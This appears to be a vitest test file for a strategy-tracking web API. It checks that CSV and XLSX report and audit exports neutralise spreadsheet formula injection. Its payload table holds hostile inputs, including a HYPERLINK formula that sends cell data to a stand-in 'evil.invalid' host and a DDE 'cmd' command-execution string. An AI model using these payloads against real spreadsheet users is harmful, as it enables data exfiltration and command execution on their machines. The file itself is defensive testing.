/**
 * CSV/XLSX formula injection (issue #9): text that a spreadsheet would run — a leading =, +,
 * -, @, tab or carriage return — is written through the API into titles, organisation
 * names, progress, plans, assessments, KPI fields, a correction's reason and (behind a
 * trusted proxy) the client address, on both engines. Every cell of the CSV and XLSX
 * reports and of the audit CSV is then text: no formula cell, and no string cell that
 * starts a formula, except plain numbers.
 */
import ExcelJS from 'exceljs';
import type { FastifyInstance, LightMyRequestResponse } from 'fastify';
import JSZip from 'jszip';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/api/app.ts';
import type { PublicUser } from '../../src/services/accounts.service.ts';
import { createTestUsers, sessionFor, type TestSession } from '../helpers/accounts.ts';
import { ENGINES, type TestDb } from '../helpers/db.ts';
import { sampleDb } from '../helpers/sample.ts';
import { ooxmlParts, parseCsv } from './helpers/markup.ts';

const FORMULAS = {
  strategy: '=HYPERLINK("http://evil.invalid/?d="&A1,"詳細")',
  pillar: '+SUM(1,1)',
  target: '-2+3',
  initiative: '@SUM(1+1)',
  shortName: "=cmd|' /C calc'!A0",
  nameJa: '\t=1+1',
  entry: '\r=1+1',
  plan: '=1+2',
  narrative: '-1+1',
  remark: '+1',
  indicator: '=HYPERLINK("http://evil.invalid")',
  targetText: '=2*3',
  source: '@A1',
  bullet: '=4',
  reason: '=HYPERLINK("http://evil.invalid","訂正")',
  correction: '@SUM(A1:A9)',
  ip: '-2+3',
};

const STARTS_FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

/** Whether each payload made it into some cell (as text; line breaks may be normalised). */
function shows(cells: string[], payloads: string[]): boolean {
  return payloads.every((p) => cells.some((c) => c.includes(p.replace(/^[\t\r]+/, ''))));
}

/** Cells that a spreadsheet would evaluate. */
function dangerous(cells: string[]): string[] {
  return cells.filter((c) => STARTS_FORMULA.test(c) && !NUMBER.test(c));
}

for (const engine of ENGINES) {
  describe(`formula injection on ${engine}`, () => {
    let db: TestDb;
    let app: FastifyInstance;
    let proxied: FastifyInstance;
    let admin: TestSession;
    let reviewer: TestSession;
    let cycleId: string;

    const send = (
      a: FastifyInstance,
      as: TestSession,
      method: 'POST' | 'PUT',
      url: string,
      payload: unknown,
      headers = {},
    ) => a.inject({ method, url, headers: { ...as.headers, ...headers }, payload: payload as object });
    const ok = async <T>(res: Promise<LightMyRequestResponse>): Promise<T> => {
      const r = await res;
      expect(r.statusCode, r.body.slice(0, 300)).toBe(200);
      return r.json() as T;
    };

    beforeAll(async () => {
      db = await sampleDb(engine);
      const users = await createTestUsers(db);
      admin = await sessionFor(db, users.admin);
      reviewer = await sessionFor(db, users.reviewer);
      app = await buildApp({ db });
      proxied = await buildApp({ db, config: { logLevel: 'silent', trustProxy: 1 } });
      const post = (url: string, body: unknown) =>
        ok<{ id: string; version: number }>(send(app, admin, 'POST', url, body));

      await post('/api/organisations', {
        id: 'f-org',
        shortName: FORMULAS.shortName,
        nameJa: FORMULAS.nameJa,
      });
      await post('/api/strategies', {
        id: 'formula',
        title: FORMULAS.strategy,
        ownerOrganisationId: 'f-org',
      });
      const pillar = await post('/api/strategies/formula/nodes', { parentId: null, title: FORMULAS.pillar });
      const target = await post('/api/strategies/formula/nodes', {
        parentId: pillar.id,
        title: FORMULAS.target,
      });
      const initiative = await post('/api/strategies/formula/initiatives', {
        title: FORMULAS.initiative,
        ownerIds: ['f-org'],
        nodeIds: [target.id],
      });
      await post('/api/strategies/formula/indicators', {
        nodeId: target.id,
        initiativeId: initiative.id,
        name: FORMULAS.indicator,
        targetText: FORMULAS.targetText,
        baselineValue: -5,
        baselinePeriod: 'FY2021-end',
      });
      const cycle = await post('/api/strategies/formula/cycles', { fiscalYear: 2023, asOf: '2024-04' });
      cycleId = cycle.id;
      await post(`/api/cycles/${cycleId}/open`, { version: cycle.version });

      // A ministry editor of f-org writes the entry through a proxy that forwards a hostile address.
      const clerk = await ok<PublicUser>(
        send(app, admin, 'POST', '/api/users', {
          login: 'f-editor',
          password: 'correct horse battery staple',
          role: 'editor',
          organisationIds: ['f-org'],
        }),
      );
      const editor = await sessionFor(db, clerk);
      await ok(
        send(
          proxied,
          editor,
          'PUT',
          `/api/entries/${cycleId}.${initiative.id}`,
          {
            version: 1,
            text: FORMULAS.entry,
            stage: null,
            plans: [{ period: 'FY2024', text: FORMULAS.plan }],
          },
          { 'x-forwarded-for': FORMULAS.ip },
        ),
      );
      await ok(
        send(app, reviewer, 'PUT', `/api/cycles/${cycleId}/assessments/${target.id}`, {
          version: null,
          rating: 'steady',
          narrative: FORMULAS.narrative,
          remark: FORMULAS.remark,
        }),
      );
      await ok(
        send(app, reviewer, 'PUT', `/api/cycles/${cycleId}/summary`, {
          version: null,
          overall: [FORMULAS.bullet],
          pillars: [{ nodeId: pillar.id, bullets: [FORMULAS.bullet] }],
        }),
      );
      // A correction of the sample's published cycle: its reason goes to the audit trail.
      await ok(
        send(app, reviewer, 'POST', '/api/cycles/ai2022-fy2022/corrections', {
          reason: FORMULAS.reason,
          entries: [{ id: 'ai2022-fy2022.ai2022-i01', version: 1, text: FORMULAS.correction, stage: null }],
        }),
      );
    });
    afterAll(async () => {
      await app?.close();
      await proxied?.close();
      await db?.destroy();
    });

    const download = async (url: string) => {
      const res = await app.inject({ method: 'GET', url, headers: reviewer.headers });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      return res.rawPayload;
    };

    it('report.csv: every cell stays text', async () => {
      const cells = parseCsv(
        (await download(`/api/strategies/formula/cycles/${cycleId}/report.csv`))
          .toString('utf8')
          .replace(/^\uFEFF/, ''),
      ).flat();
      expect(dangerous(cells)).toEqual([]);
      expect(shows(cells, [FORMULAS.initiative, FORMULAS.entry, FORMULAS.target, FORMULAS.shortName])).toBe(
        true,
      );
    });

    it('report.xlsx: no formula cell, every text cell stays text', async () => {
      const file = await download(`/api/strategies/formula/cycles/${cycleId}/report.xlsx`);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(file as unknown as ArrayBuffer);
      const texts: string[] = [];
      const formulas: string[] = [];
      for (const ws of wb.worksheets) {
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (cell.type === ExcelJS.ValueType.Formula) formulas.push(`${ws.name}!${cell.address}`);
            if (typeof cell.value === 'string') texts.push(cell.value);
            if (cell.value && typeof cell.value === 'object' && 'richText' in cell.value) {
              texts.push(cell.value.richText.map((r) => r.text).join(''));
            }
          }),
        );
      }
      expect(formulas).toEqual([]);
      expect(dangerous(texts)).toEqual([]);
      expect(shows(texts, [FORMULAS.initiative, FORMULAS.entry, FORMULAS.indicator, FORMULAS.plan])).toBe(
        true,
      );
      // Nor in the XML itself: no <f> element in any sheet.
      const sheets = (await ooxmlParts(file)).filter((p) => p.name.startsWith('xl/worksheets/'));
      expect(sheets.length).toBeGreaterThan(0);
      for (const sheet of sheets) expect(sheet.problems, sheet.name).toEqual([]);
      const zip = await JSZip.loadAsync(file);
      for (const sheet of sheets) expect(await zip.file(sheet.name)!.async('string')).not.toMatch(/<f[\s>]/);
    });

    it('audit.csv: every cell stays text, the reason and a forwarded address included', async () => {
      const csv = (await download('/api/audit.csv')).toString('utf8');
      const cells = parseCsv(csv.replace(/^\uFEFF/, '')).flat();
      expect(dangerous(cells)).toEqual([]);
      expect(cells).toContain(`'${FORMULAS.reason}`);
      expect(cells).toContain(`'${FORMULAS.ip}`);
    });
  });
}
